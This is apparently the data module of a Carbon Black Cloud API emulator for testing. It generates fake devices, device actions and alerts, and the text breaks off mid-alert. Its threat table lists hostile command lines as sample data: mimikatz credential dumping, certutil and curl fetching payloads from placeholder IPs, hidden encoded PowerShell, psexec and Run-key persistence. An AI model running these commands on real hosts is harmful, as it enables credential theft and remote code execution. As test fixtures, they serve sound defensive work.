"""The Carbon Black Cloud org's data: devices, alerts, processes and events, auth events,
LiveQuery, threat intelligence and the legacy Defense v3 views.

Generated rows are pure functions of ``(seed, index)`` built on the shared endpoint population
(:mod:`cbasync.testing.dataset.endpoints`); only what a client changes (a quarantine, an alert's
workflow, a feed) is kept in memory. Large sets (processes, auth events) are never materialised:
a :class:`Table` evaluates queries, criteria and facets through per-field getters over row
indices, and builds a row's JSON only when it is returned.

Timestamps describe a history that ends at the configuration's ``data_epoch``; relative windows
(``time_range: {"window": "-2w"}``, ``{"range": "-1d"}``, the alerts v7 default of two weeks) count
back from that end, so a seed answers the same whatever today's date is.

Nothing here knows HTTP. The routes in ``cbasync.testing.routes.cloud_*`` translate requests to
these calls.
"""

from __future__ import annotations

import hashlib
import re
from collections import Counter
from collections.abc import Callable, Iterable, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from cbasync.testing.dataset.endpoints import POLICIES, Endpoint, EndpointPopulation
from cbasync.testing.dataset.vfs import image_store
from cbasync.testing.query import Categorical, FieldType
from cbasync.testing.search import (
    Column,
    CriteriaError,
    Getter,
    Table,
    epoch_of,
    facet_id,
)
from cbasync.testing.state import EmulatorState

__all__ = [
    "AUTH_DESCRIPTIONS",
    "AUTH_SEARCH_FIELDS",
    "CLOUD_BACKEND",
    "DEVICE_ACTIONS",
    "DEVICE_FACET_FIELDS",
    "EDR_TO_EEDR_FIELDS",
    "EVENT_SCHEMA",
    "EVENT_TYPES",
    "FAMILY",
    "LIVEQUERY_TABLES",
    "PROCESS_DEFAULT_FIELDS",
    "V3_EVENT_TYPES",
    "V3_RESULT_CAP",
    "V6_FACET_FIELDS",
    "V6_TIME_CRITERIA",
    "V7_FACET_FIELDS",
    "V7_TIME_CRITERIA",
    "AlertStore",
    "AuthEventStore",
    "CloudOrg",
    "DefenseStore",
    "DeviceStore",
    "LiveQueryRun",
    "LiveQueryStore",
    "ProcessStore",
    "SqlError",
    "ThreatIntelStore",
    "Workflow",
    "cloud_org",
    "event_table",
    "iso",
    "mix",
    "osquery_rows",
    "short_id",
    "stable",
    "translate_edr_query",
]


# --------------------------------------------------------------------------------------------
# small helpers
# --------------------------------------------------------------------------------------------


def stable(*parts: object) -> int:
    """A 64-bit integer that depends only on ``parts`` (never on PYTHONHASHSEED)."""
    return int.from_bytes(hashlib.blake2b(repr(parts).encode(), digest_size=8).digest(), "big")


def mix(seed: int, i: int, salt: int) -> int:
    """A cheap integer hash of (seed, i, salt), good enough to pick from tables."""
    x = (i * 0x9E3779B97F4A7C15 + seed * 0xBF58476D1CE4E5B9 + salt * 0x94D049BB133111EB) & (
        (1 << 64) - 1
    )
    x ^= x >> 31
    x = (x * 0xD6E8FEB86659FD93) & ((1 << 64) - 1)
    x ^= x >> 29
    return x


def iso(epoch: float | None) -> str | None:
    """``2024-05-01T12:00:00.000Z``: the cloud's timestamp spelling."""
    if epoch is None:
        return None
    ms = round(epoch * 1000)
    seconds, millis = divmod(ms, 1000)
    days, rem = divmod(seconds, 86_400)
    hh, rem = divmod(rem, 3600)
    mm, ss = divmod(rem, 60)
    y, mo, d = _civil(days)
    return f"{y:04d}-{mo:02d}-{d:02d}T{hh:02d}:{mm:02d}:{ss:02d}.{millis:03d}Z"


def _civil(days: int) -> tuple[int, int, int]:
    """Proleptic Gregorian date of a day count since 1970-01-01 (Howard Hinnant's algorithm)."""
    z = days + 719_468
    era = (z if z >= 0 else z - 146_096) // 146_097
    doe = z - era * 146_097
    yoe = (doe - doe // 1460 + doe // 36_524 - doe // 146_096) // 365
    y = yoe + era * 400
    doy = doe - (365 * yoe + yoe // 4 - yoe // 100)
    mp = (5 * doy + 2) // 153
    d = doy - (153 * mp + 2) // 5 + 1
    m = mp + 3 if mp < 10 else mp - 9
    return (y + 1 if m <= 2 else y), m, d


# --------------------------------------------------------------------------------------------
# Devices (platform v6 and Defense v3 views of the endpoint population)
# --------------------------------------------------------------------------------------------

DEVICE_FACET_FIELDS = (
    "policy_id",
    "status",
    "os",
    "ad_group_id",
    "cloud_provider_account_id",
    "auto_scaling_group_name",
    "virtual_private_cloud_id",
    "deployment_type",
)
DEVICE_ACTIONS = (
    "QUARANTINE",
    "BYPASS",
    "BACKGROUND_SCAN",
    "UPDATE_POLICY",
    "UPDATE_SENSOR_VERSION",
    "UNINSTALL_SENSOR",
    "DELETE_SENSOR",
)
_DEVICE_STATUSES = (
    "PENDING",
    "REGISTERED",
    "UNINSTALLED",
    "DEREGISTERED",
    "ACTIVE",
    "INACTIVE",
    "ERROR",
    "ALL",
    "BYPASS_ON",
    "BYPASS",
    "QUARANTINE",
    "SENSOR_OUTOFDATE",
    "DELETED",
    "LIVE",
)
_ORG_ID = 1105


@dataclass
class _DeviceExtra:
    """Cloud-only mutable state of a device (the rest lives on the shared Endpoint)."""

    scan_enabled: bool = False
    scan_changed: float | None = None
    policy_changed: float | None = None
    sensor_update_requested: str | None = None
    uninstall_requested: float | None = None


class DeviceStore:
    """Platform devices: v6 JSON, Defense v3 JSON, search, facets and device actions."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        org_name: str,
        now: Callable[[], float],
        monotonic: Callable[[], float],
        isolation_delay: float,
    ) -> None:
        self.endpoints = endpoints
        self.org_name = org_name
        self.now = now
        self.monotonic = monotonic
        self.isolation_delay = isolation_delay
        self.extra: dict[int, _DeviceExtra] = {}
        self.table = self._table()

    # -- per-endpoint facts --------------------------------------------------------------------
    def endpoint(self, device_id: int) -> Endpoint | None:
        ep = self.endpoints.by_device_id(device_id)
        return ep if ep is not None and not ep.deregistered else None

    def _extra(self, ep: Endpoint) -> _DeviceExtra:
        extra = self.extra.get(ep.index)
        if extra is None:
            extra = self.extra[ep.index] = _DeviceExtra()
        return extra

    def status(self, ep: Endpoint) -> str:
        if ep.deregistered:
            return "DEREGISTERED"
        if ep.uninstall:
            return "UNINSTALLED"
        if ep.bypass:
            return "BYPASS"
        return "REGISTERED"

    def last_contact(self, ep: Endpoint) -> float:
        if ep.online and not ep.uninstall and not ep.deregistered:
            return self.now() - (ep.index * 7 % 45) - 5
        return self.endpoints.epoch - ep.offline_days * 86_400

    def quarantined(self, ep: Endpoint) -> bool:
        return ep.is_isolating(self.monotonic(), self.isolation_delay)

    def deployment_type(self, ep: Endpoint) -> str:
        return (
            "WORKLOAD" if ep.host_type != "workstation" and ep.os_family == "linux" else "ENDPOINT"
        )

    def target_priority(self, ep: Endpoint) -> str:
        if ep.host_type == "domain_controller":
            return "MISSION_CRITICAL"
        return "HIGH" if ep.host_type == "server" else ("LOW" if ep.group_id == 5 else "MEDIUM")

    def v6(self, ep: Endpoint) -> dict[str, Any]:
        extra = self._extra(ep)
        contact = self.last_contact(ep)
        online = ep.online and not ep.uninstall and not ep.deregistered
        states = (
            ["ACTIVE", "LIVE_RESPONSE_ENABLED"]
            if online
            else ["ACTIVE", "LIVE_RESPONSE_NOT_RUNNING"]
        )
        if ep.os_family == "windows":
            states.append("SECURITY_CENTER_OPTLN_DISABLED")
        av = ["AV_ACTIVE", "ONDEMAND_SCAN_DISABLED"] if ep.os_family == "windows" else []
        if extra.scan_enabled and av:
            av[1] = "ONDEMAND_SCAN_ENABLED"
        user = ep.username
        registered = ep.registered_time
        windows = ep.os_family == "windows"
        return {
            "id": ep.device_id,
            "name": ep.hostname,
            "os": ep.cloud_os,
            "os_version": ep.cloud_os_version,
            "status": self.status(ep),
            "last_contact_time": iso(contact),
            "last_reported_time": iso(contact - 30),
            "registered_time": iso(registered),
            "deregistered_time": iso(self.now()) if ep.deregistered else None,
            "policy_id": ep.policy_id,
            "policy_name": ep.policy_name,
            "policy_override": extra.policy_changed is not None,
            "current_sensor_policy_name": ep.policy_name,
            "last_policy_updated_time": iso(extra.policy_changed or registered + 3600),
            "last_device_policy_changed_time": iso(extra.policy_changed),
            "last_device_policy_requested_time": iso(contact),
            "quarantined": self.quarantined(ep),
            "sensor_version": ep.cloud_sensor_version,
            "sensor_out_of_date": False,
            "sensor_pending_update": extra.sensor_update_requested is not None,
            "sensor_kit_type": {"windows": "WINDOWS", "macos": "MAC", "linux": "LINUX"}[
                ep.os_family
            ],
            "sensor_states": states,
            "deployment_type": self.deployment_type(ep),
            "target_priority": self.target_priority(ep),
            "ad_group_id": 0 if not windows else 1000 + ep.group_id,
            "av_status": av,
            "av_engine": "4.14.3.454-ave.8.3.62.236:avpack.8.5.0.94:vdf.8.20.40.20"
            if windows
            else None,
            "av_last_scan_time": iso(extra.scan_changed) if extra.scan_changed else None,
            "av_master": False,
            "av_product_version": "4.14.3.454" if windows else None,
            "av_update_servers": [],
            "av_vdf_version": "8.20.40.20" if windows else None,
            "av_pack_version": "8.5.0.94" if windows else None,
            "av_ave_version": "8.3.62.236" if windows else None,
            "scan_status": "IN_PROGRESS" if extra.scan_enabled else None,
            "scan_last_action_time": iso(extra.scan_changed),
            "scan_last_complete_time": None,
            "passive_mode": False,
            "last_internal_ip_address": ep.internal_ip,
            "last_external_ip_address": ep.external_ip,
            "mac_address": ep.mac_address,
            "last_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
            "login_user_name": user,
            "email": ep.email,
            "first_name": ep.first_name,
            "last_name": ep.last_name,
            "middle_name": None,
            "device_owner_id": 50_000 + ep.index,
            "organization_id": _ORG_ID,
            "organization_name": self.org_name,
            "activation_code": None,
            "activation_code_expiry_time": iso(registered + 30 * 86_400),
            "encoded_activation_code": None,
            "uninstall_code": f"{stable('uninstall', ep.index) % 10**8:08d}",
            "uninstall_requested": extra.uninstall_requested is not None,
            "windows_platform": None,
            "linux_kernel_version": "5.15.0-91-generic" if ep.os_family == "linux" else None,
            "virtual_machine": ep.host_type != "workstation",
            "virtualization_provider": "VMW_ESX" if ep.host_type != "workstation" else "UNKNOWN",
            "vdi_base_device": None,
            "last_shutdown_time": None,
            "last_reset_time": None,
            "device_meta_data_item_list": [
                {"key_name": "OS_MAJOR_VERSION", "key_value": ep.cloud_os_version, "position": 0}
            ],
            "auto_scaling_group_name": None,
            "cloud_provider_account_id": None,
            "cloud_provider_resource_id": None,
            "cloud_provider_tags": [],
            "virtual_private_cloud_id": None,
            "host_based_firewall_failure_reason": None,
            "host_based_firewall_status": None,
            "base_device": None,
            "asset_group": [],
            "vulnerability_score": round(stable("vuln", ep.index) % 1000 / 100, 2),
            "vulnerability_severity": ("LOW", "MODERATE", "IMPORTANT", "CRITICAL")[ep.index % 4],
        }

    def v3(self, ep: Endpoint) -> dict[str, Any]:
        """The Defense v3 ``deviceInfo`` (camelCase, epoch milliseconds)."""
        v6 = self.v6(ep)
        contact = self.last_contact(ep)
        return {
            "deviceId": ep.device_id,
            "deviceGuid": f"{stable('guid', ep.index):032x}"[:32],
            "deviceSessionId": stable("session", ep.index) % 10**9,
            "deviceOwnerId": v6["device_owner_id"],
            "deviceType": ep.cloud_os,
            "name": ep.hostname,
            "osVersion": ep.cloud_os_version,
            "status": v6["status"],
            "lastContact": int(contact * 1000),
            "lastReportedTime": int((contact - 30) * 1000),
            "registeredTime": int(ep.registered_time * 1000),
            "createTime": int(ep.registered_time * 1000),
            "deregisteredTime": None,
            "uninstalledTime": None,
            "policyId": ep.policy_id,
            "policyName": ep.policy_name,
            "quarantined": v6["quarantined"],
            "sensorVersion": ep.cloud_sensor_version,
            "sensorStates": v6["sensor_states"],
            "avStatus": v6["av_status"],
            "avEngine": v6["av_engine"],
            "avMaster": False,
            "avUpdateServers": [],
            "avLastScanTime": None,
            "lastInternalIpAddress": ep.internal_ip,
            "lastExternalIpAddress": ep.external_ip,
            "lastLocation": v6["last_location"],
            "email": ep.email,
            "firstName": ep.first_name,
            "lastName": ep.last_name,
            "middleName": None,
            "assignedToId": v6["device_owner_id"],
            "assignedToName": ep.username,
            "organizationId": _ORG_ID,
            "organizationName": self.org_name,
            "targetPriorityType": v6["target_priority"],
            "passiveMode": False,
            "vdiBaseDevice": None,
            "windowsPlatform": None,
            "linuxKernelVersion": v6["linux_kernel_version"],
            "activationCode": None,
            "activationCodeExpiryTime": None,
            "scanStatus": v6["scan_status"],
            "scanLastActionTime": None,
            "scanLastCompleteTime": None,
            "rootedBySensor": False,
            "rootedBySensorTime": None,
            "rootedByAnalytics": False,
            "rootedByAnalyticsTime": None,
            "firstVirusActivityTime": 0,
            "lastVirusActivityTime": 0,
            "lastResetTime": 0,
            "lastShutdownTime": 0,
            "testId": -1,
            "messages": [],
        }

    # -- search ----------------------------------------------------------------------------------
    def _table(self) -> Table:
        eps = self.endpoints

        def ep(i: int) -> Endpoint:
            return eps[i]

        cols: dict[str, Column] = {
            "id": lambda i: ep(i).device_id,
            "name": lambda i: ep(i).hostname,
            "os": lambda i: ep(i).cloud_os,
            "os_version": lambda i: ep(i).cloud_os_version,
            "status": lambda i: self.status(ep(i)),
            "policy_id": lambda i: ep(i).policy_id,
            "policy_name": lambda i: ep(i).policy_name,
            "target_priority": lambda i: self.target_priority(ep(i)),
            "ad_group_id": lambda i: 0 if ep(i).os_family != "windows" else 1000 + ep(i).group_id,
            "deployment_type": lambda i: self.deployment_type(ep(i)),
            "sensor_version": lambda i: ep(i).cloud_sensor_version,
            "last_contact_time": lambda i: self.last_contact(ep(i)),
            "registered_time": lambda i: ep(i).registered_time,
            "quarantined": lambda i: self.quarantined(ep(i)),
            "login_user_name": lambda i: ep(i).username,
            "email": lambda i: ep(i).email,
            "first_name": lambda i: ep(i).first_name,
            "last_name": lambda i: ep(i).last_name,
            "last_internal_ip_address": lambda i: ep(i).internal_ip,
            "last_external_ip_address": lambda i: ep(i).external_ip,
            "mac_address": lambda i: ep(i).mac_address,
            "virtual_machine": lambda i: ep(i).host_type != "workstation",
            "sensor_out_of_date": lambda i: False,
            "cloud_provider_account_id": lambda i: None,
            "auto_scaling_group_name": lambda i: None,
            "virtual_private_cloud_id": lambda i: None,
            "device_owner_id": lambda i: 50_000 + i,
        }
        schema: dict[str, FieldType] = {
            "id": "number",
            "name": "keyword",
            "os": "keyword",
            "os_version": "text",
            "status": "keyword",
            "policy_id": "number",
            "policy_name": "keyword",
            "target_priority": "keyword",
            "ad_group_id": "number",
            "deployment_type": "keyword",
            "sensor_version": "keyword",
            "last_contact_time": "date",
            "registered_time": "date",
            "quarantined": "bool",
            "login_user_name": "keyword",
            "email": "keyword",
            "first_name": "keyword",
            "last_name": "keyword",
            "last_internal_ip_address": "ip",
            "last_external_ip_address": "ip",
            "mac_address": "keyword",
            "virtual_machine": "bool",
        }
        return Table(
            count=lambda: len(eps),
            columns=cols,
            schema=schema,
            default_fields=("name", "login_user_name", "email", "os_version", "policy_name"),
            time_criteria=frozenset({"last_contact_time"}),
            special={"status": self._status_test},
        )

    def _status_test(self, wanted: list[Any]) -> Callable[[int], bool]:
        names = {str(w).upper() for w in wanted}
        unknown = names - set(_DEVICE_STATUSES)
        if unknown:
            raise CriteriaError(
                f"invalid status {sorted(unknown)[0]!r}",
                field="criteria.status",
                known=_DEVICE_STATUSES,
            )
        if "ALL" in names:
            return lambda i: True
        eps = self.endpoints

        def test(i: int) -> bool:
            ep = eps[i]
            status = self.status(ep)
            live = ep.online and status == "REGISTERED"
            checks = {
                "REGISTERED": status == "REGISTERED",
                "ACTIVE": status in ("REGISTERED", "BYPASS"),
                "LIVE": live,
                "INACTIVE": not live and status == "REGISTERED",
                "BYPASS": status == "BYPASS",
                "BYPASS_ON": status == "BYPASS",
                "QUARANTINE": self.quarantined(ep),
                "UNINSTALLED": status == "UNINSTALLED",
                "DEREGISTERED": status == "DEREGISTERED",
                "DELETED": status == "DEREGISTERED",
                "PENDING": False,
                "ERROR": False,
                "SENSOR_OUTOFDATE": False,
            }
            return any(checks.get(n, False) for n in names)

        return test

    def search(self, body: Mapping[str, Any], *, anchor: float) -> list[int]:
        """Matching endpoint indices (deregistered devices only when asked for by status)."""
        criteria = dict(body.get("criteria") or {})
        extra: Callable[[int], bool] | None = None
        if "status" not in criteria:
            criteria["status"] = ["ALL"]

            def extra(i: int) -> bool:
                return not self.endpoints[i].deregistered

        return self.table.select(
            query=body.get("query"),
            criteria=criteria,
            exclusions=body.get("exclusions"),
            anchor=anchor,
            extra=extra,
        )

    def facet_name(self, field_name: str, value: Any) -> str:
        if field_name == "policy_id":
            return dict(POLICIES).get(value, f"Policy {value}")
        return facet_id(value)

    # -- actions ---------------------------------------------------------------------------------
    def act(self, action: str, device_ids: Iterable[int], options: Mapping[str, Any]) -> int:
        """Apply a device action; returns how many known devices it touched."""
        action = action.upper()
        if action not in DEVICE_ACTIONS:
            raise CriteriaError(
                f"invalid action_type {action!r}", field="action_type", known=DEVICE_ACTIONS
            )
        toggle = str(options.get("toggle", "")).upper()
        if action in ("QUARANTINE", "BYPASS", "BACKGROUND_SCAN") and toggle not in ("ON", "OFF"):
            raise CriteriaError("options.toggle must be ON or OFF", field="options.toggle")
        if action == "UPDATE_POLICY":
            policy = options.get("policy_id")
            if not isinstance(policy, int) or isinstance(policy, bool):
                raise CriteriaError(
                    "options.policy_id (an integer) is required", field="options.policy_id"
                )
        if action == "UPDATE_SENSOR_VERSION":
            versions = options.get("sensor_version")
            if not isinstance(versions, Mapping) or not versions:
                raise CriteriaError(
                    "options.sensor_version must map a kit type to a version",
                    field="options.sensor_version",
                )
        touched = 0
        now = self.now()
        for device_id in device_ids:
            ep = self.endpoints.by_device_id(device_id)
            if ep is None or ep.deregistered:
                continue
            touched += 1
            extra = self._extra(ep)
            if action == "QUARANTINE":
                ep.request_isolation(toggle == "ON", self.monotonic(), self.isolation_delay)
            elif action == "BYPASS":
                ep.bypass = toggle == "ON"
            elif action == "BACKGROUND_SCAN":
                extra.scan_enabled = toggle == "ON"
                extra.scan_changed = now
            elif action == "UPDATE_POLICY":
                policy_id = int(options["policy_id"])
                ep.policy_id = policy_id
                ep.policy_name = dict(POLICIES).get(policy_id, f"Policy {policy_id}")
                extra.policy_changed = now
            elif action == "UPDATE_SENSOR_VERSION":
                versions = dict(options["sensor_version"])
                kit = {"windows": "WINDOWS", "macos": "MAC", "linux": "LINUX"}[ep.os_family]
                for key, version in versions.items():
                    if str(key).upper() == kit or (
                        kit == "LINUX"
                        and str(key).upper()
                        in ("RHEL", "UBUNTU", "SUSE", "CENTOS", "DEBIAN", "AMAZON_LINUX", "ORACLE")
                    ):
                        ep.cloud_sensor_version = str(version)
                        extra.sensor_update_requested = str(version)
            elif action == "UNINSTALL_SENSOR":
                ep.uninstall = True
                extra.uninstall_requested = now
            elif action == "DELETE_SENSOR":
                ep.deregistered = True
        return touched


# --------------------------------------------------------------------------------------------
# Alerts (v7 records, also rendered in the v6 shape)
# --------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class _Threat:
    """A process behaviour that alerts are raised for."""

    name: str
    path_windows: str
    path_unix: str
    cmdline: str
    reputation: str
    parent: str
    reason: str
    ttps: tuple[str, ...]
    tactic: str

    def sha256(self) -> str:
        return hashlib.sha256(self.name.encode()).hexdigest()

    def md5(self) -> str:
        return hashlib.md5(self.name.encode(), usedforsecurity=False).hexdigest()


_THREATS: tuple[_Threat, ...] = (
    _Threat("powershell.exe", "c:\\windows\\system32\\windowspowershell\\v1.0\\powershell.exe", "/usr/bin/pwsh", "powershell.exe -nop -w hidden -enc SQBFAFgA", "TRUSTED_WHITE_LIST", "winword.exe", "The application powershell.exe executed a fileless script or command.", ("FILELESS", "POLICY_TERMINATE", "MITRE_T1059_001_POWERSHELL"), "TA0002"),
    _Threat("mimikatz.exe", "c:\\users\\public\\mimikatz.exe", "/tmp/mimikatz", "mimikatz.exe privilege::debug sekurlsa::logonpasswords exit", "KNOWN_MALWARE", "cmd.exe", "A known malware process (mimikatz.exe) attempted to read the memory of lsass.exe.", ("KNOWN_MALWARE", "READ_SECURITY_DATA", "MITRE_T1003_CREDENTIAL_DUMP"), "TA0006"),
    _Threat("rundll32.exe", "c:\\windows\\system32\\rundll32.exe", "/usr/bin/rundll32", "rundll32.exe C:\\Users\\Public\\payload.dll,DllRegisterServer", "TRUSTED_WHITE_LIST", "explorer.exe", "The application rundll32.exe loaded an unsigned library from a public folder.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1218_011_RUNDLL32"), "TA0005"),
    _Threat("invoice.pdf.exe", "c:\\users\\{user}\\downloads\\invoice.pdf.exe", "/home/{user}/invoice.pdf", "\"C:\\Users\\{user}\\Downloads\\invoice.pdf.exe\"", "SUSPECT_MALWARE", "outlook.exe", "A suspected malware file (invoice.pdf.exe) was executed from the Downloads folder.", ("SUSPECT_MALWARE", "RAN_UNTRUSTED", "MITRE_T1204_002_MALICIOUS_FILE"), "TA0002"),
    _Threat("certutil.exe", "c:\\windows\\system32\\certutil.exe", "/usr/bin/certutil", "certutil.exe -urlcache -split -f http://203.0.113.77/a.exe a.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application certutil.exe downloaded a file from an untrusted address.", ("NETWORK_ACCESS", "MITRE_T1105_INGRESS_TOOL_TRANSFER"), "TA0011"),
    _Threat("psexec.exe", "c:\\tools\\psexec.exe", "/usr/local/bin/psexec", "psexec.exe \\\\DC01 -s cmd.exe", "ADAPTIVE_WHITE_LIST", "cmd.exe", "The application psexec.exe started a remote service.", ("LATERAL_MOVEMENT", "MITRE_T1569_002_SERVICE_EXECUTION"), "TA0008"),
    _Threat("curl", "c:\\windows\\system32\\curl.exe", "/usr/bin/curl", "curl -s http://203.0.113.50/install.sh", "TRUSTED_WHITE_LIST", "bash", "The application curl fetched a script piped into a shell.", ("RUN_CMD_SHELL", "MITRE_T1059_004_UNIX_SHELL"), "TA0002"),
    _Threat("xmrig", "c:\\users\\{user}\\appdata\\local\\temp\\xmrig.exe", "/tmp/.x/xmrig", "xmrig -o pool.example.net:3333", "KNOWN_MALWARE", "bash", "A cryptocurrency miner (xmrig) was detected and terminated.", ("KNOWN_MALWARE", "POLICY_TERMINATE", "MITRE_T1496_RESOURCE_HIJACKING"), "TA0040"),
    _Threat("wscript.exe", "c:\\windows\\system32\\wscript.exe", "/usr/bin/wscript", "wscript.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\update.js", "TRUSTED_WHITE_LIST", "chrome.exe", "The application wscript.exe executed a script downloaded by a browser.", ("SUSPICIOUS_BEHAVIOR", "MITRE_T1059_007_JAVASCRIPT"), "TA0002"),
    _Threat("reg.exe", "c:\\windows\\system32\\reg.exe", "/usr/bin/reg", "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d C:\\ProgramData\\upd.exe", "TRUSTED_WHITE_LIST", "cmd.exe", "The application reg.exe added an autorun entry.", ("PERSISTENCE", "MITRE_T1547_001_REGISTRY_RUN_KEYS"), "TA0003"),
)  # fmt: skip

_ALERT_TYPES: tuple[tuple[str, int], ...] = (
    ("CB_ANALYTICS", 50),
    ("WATCHLIST", 30),
    ("DEVICE_CONTROL", 6),
    ("CONTAINER_RUNTIME", 4),
    ("HOST_BASED_FIREWALL", 5),
    ("INTRUSION_DETECTION_SYSTEM", 5),
)
_WATCHLISTS = (
    ("NT2FaWdORZWY1YUTcEpULA", "ATT&CK Framework"),
    ("9x0timurQkQA0NdyCVgLg", "Suspicious Indicators"),
    ("w7iTsKs4QPKfgodG8dLLiw", "AMSI Threat Intelligence"),
)
_SENSOR_ACTIONS = ("DENY", "TERMINATE", "ALLOW", "ALLOW_AND_LOG")
V7_TIME_CRITERIA = frozenset(
    {
        "backend_timestamp",
        "backend_update_timestamp",
        "detection_timestamp",
        "first_event_timestamp",
        "last_event_timestamp",
        "mdr_determination_change_timestamp",
        "mdr_workflow_change_timestamp",
        "user_update_timestamp",
        "workflow_change_timestamp",
    }
)
V6_TIME_CRITERIA = frozenset(
    {"create_time", "first_event_time", "last_event_time", "last_update_time"}
)
V6_FACET_FIELDS = {
    "ALERT_TYPE": "type",
    "CATEGORY": "category",
    "REPUTATION": "reputation",
    "WORKFLOW": "workflow",
    "TAG": "tag",
    "POLICY_ID": "policy_id",
    "POLICY_NAME": "policy_name",
    "DEVICE_ID": "device_id",
    "DEVICE_NAME": "device_name",
    "APPLICATION_HASH": "process_sha256",
    "APPLICATION_NAME": "process_name",
    "STATUS": "workflow",
    "RUN_STATE": "run_state",
    "POLICY_APPLIED_STATE": "policy_applied",
    "POLICY_APPLIED": "policy_applied",
    "SENSOR_ACTION": "sensor_action",
}
V7_FACET_FIELDS = (
    "type",
    "severity",
    "threat_id",
    "device_id",
    "device_name",
    "device_os",
    "device_os_version",
    "device_policy",
    "device_policy_id",
    "device_target_value",
    "device_username",
    "process_name",
    "process_sha256",
    "process_reputation",
    "process_effective_reputation",
    "parent_name",
    "reason_code",
    "run_state",
    "policy_applied",
    "sensor_action",
    "tags",
    "ttps",
    "attack_tactic",
    "workflow_status",
    "determination_value",
    "alert_origin",
    "watchlists_name",
    "device_location",
)


def _weighted(choices: Sequence[tuple[str, int]], x: int) -> str:
    total = sum(w for _, w in choices)
    pick = x % total
    for value, weight in choices:
        if pick < weight:
            return value
        pick -= weight
    return choices[-1][0]


def _uuid(*parts: object) -> str:
    h = f"{stable(*parts):016x}{stable(*parts, 'b'):016x}"
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-a{h[17:20]}-{h[20:32]}"


@dataclass
class Workflow:
    """An alert's user-changeable state."""

    status: str = "OPEN"
    closure_reason: str = "NO_REASON"
    note: str | None = None
    changed_by: str = "ALERT_CREATION"
    changed_by_type: str = "SYSTEM"
    change_timestamp: float = 0.0
    determination: str = "NONE"


class AlertStore:
    """Cloud alerts: v7 records as ground truth, v6 as a view of them."""

    def __init__(
        self,
        endpoints: EndpointPopulation,
        *,
        seed: int,
        count: int,
        org_key: str,
        epoch: float,
        history_days: int,
        now: Callable[[], float],
    ) -> None:
        self.endpoints = endpoints
        self.seed = seed
        self.count = count
        self.org_key = org_key
        self.epoch = epoch
        self.history = history_days * 86_400
        self.now = now
        self._rows: list[dict[str, Any]] | None = None
        self._by_id: dict[str, int] = {}
        self._epochs: dict[tuple[int, str], float] = {}
        self.workflows: dict[int, Workflow] = {}
        self.threat_workflows: dict[str, Workflow] = {}
        self.notes: dict[str, list[dict[str, Any]]] = {}
        self.threat_notes: dict[str, list[dict[str, Any]]] = {}
        self.threat_tags: dict[str, list[str]] = {}
        self.history_log: dict[str, list[dict[str, Any]]] = {}
        self.v7 = self._table(v6=False)
        self.v6 = self._table(v6=True)

    # -- generation ------------------------------------------------------------------------------
    def rows(self) -> list[dict[str, Any]]:
        if self._rows is None:
            self._rows = [self._generate(i) for i in range(self.count)]
            self._by_id = {r["id"]: i for i, r in enumerate(self._rows)}
        return self._rows

    def epoch_of(self, i: int, name: str) -> float | None:
        """A timestamp field of alert ``i`` as epoch seconds (parsed once, then remembered)."""
        key = (i, name)
        cached = self._epochs.get(key)
        if cached is None:
            raw = self.rows()[i].get(name)
            if not raw:
                return None
            cached = self._epochs[key] = epoch_of(raw)
        return cached

    def index_of(self, alert_id: str) -> int | None:
        self.rows()
        return self._by_id.get(alert_id)

    def _generate(self, i: int) -> dict[str, Any]:
        seed = self.seed
        h = mix(seed, i, 77)
        kind = _weighted(_ALERT_TYPES, h)
        ep = self.endpoints[(h >> 8) % len(self.endpoints)]
        windows = ep.os_family == "windows"
        threat_index = (h >> 16) % max(1, self.count // 4 or 1)
        profile = _THREATS[(threat_index + (0 if windows else 6)) % len(_THREATS)]
        backend = self.epoch - (i + 0.5) * self.history / max(self.count, 1) - (h >> 24) % 600
        first = backend - 60 - (h >> 32) % 3600
        last = backend - (h >> 40) % 60
        severity = 1 + (h >> 48) % 10
        user = ep.username.rsplit("\\", 1)[-1]
        path = (profile.path_windows if windows else profile.path_unix).replace("{user}", user)
        cmdline = profile.cmdline.replace("{user}", user)
        pid = 1000 + (h >> 20) % 60_000
        parent_pid = 400 + (h >> 28) % 8000
        threat_id = f"{stable('threat', seed, threat_index):032X}"[:32]
        device_guid = f"{ep.device_id & 0xFFFFFFFF:08x}"
        process_guid = f"{self.org_key}-{device_guid}-{pid:08x}-00000000-1d{(h >> 4) % 16**13:013x}"
        parent_guid = (
            f"{self.org_key}-{device_guid}-{parent_pid:08x}-00000000-1d{(h >> 6) % 16**13:013x}"
        )
        alert_id = _uuid("alert", seed, i)
        sensor_action = _SENSOR_ACTIONS[(h >> 3) % 4] if kind == "CB_ANALYTICS" else "ALLOW"
        row: dict[str, Any] = {
            "org_key": self.org_key,
            "alert_url": f"defense.conferdeploy.net/alerts?s[c][query_string]=id:{alert_id}&orgKey={self.org_key}",
            "id": alert_id,
            "type": kind,
            "backend_timestamp": iso(backend),
            "user_update_timestamp": None,
            "backend_update_timestamp": iso(backend + 30),
            "detection_timestamp": iso(last),
            "first_event_timestamp": iso(first),
            "last_event_timestamp": iso(last),
            "severity": severity,
            "reason": profile.reason,
            "reason_code": f"{stable('rc', profile.name):016x}"[:8]
            + ":"
            + f"{stable('rc2', kind):016x}"[:8],
            "threat_id": threat_id,
            "primary_event_id": f"{stable('event', seed, i):032x}"[:22],
            "policy_applied": "APPLIED"
            if sensor_action in ("DENY", "TERMINATE")
            else "NOT_APPLIED",
            "run_state": "DID_NOT_RUN" if sensor_action in ("DENY", "TERMINATE") else "RAN",
            "sensor_action": sensor_action,
            "tags": ["emulated"] if i % 11 == 0 else [],
            "is_updated": False,
            "device_id": ep.device_id,
            "device_name": ep.hostname,
            "device_uem_id": "",
            "device_target_value": "HIGH" if ep.host_type != "workstation" else "MEDIUM",
            "device_policy": ep.policy_name,
            "device_policy_id": ep.policy_id,
            "device_os": ep.cloud_os,
            "device_os_version": ep.cloud_os_version,
            "device_username": ep.username,
            "device_location": "OFFSITE" if ep.index % 4 == 1 else "ONSITE",
            "device_external_ip": ep.external_ip,
            "device_internal_ip": ep.internal_ip,
            "mdr_alert": False,
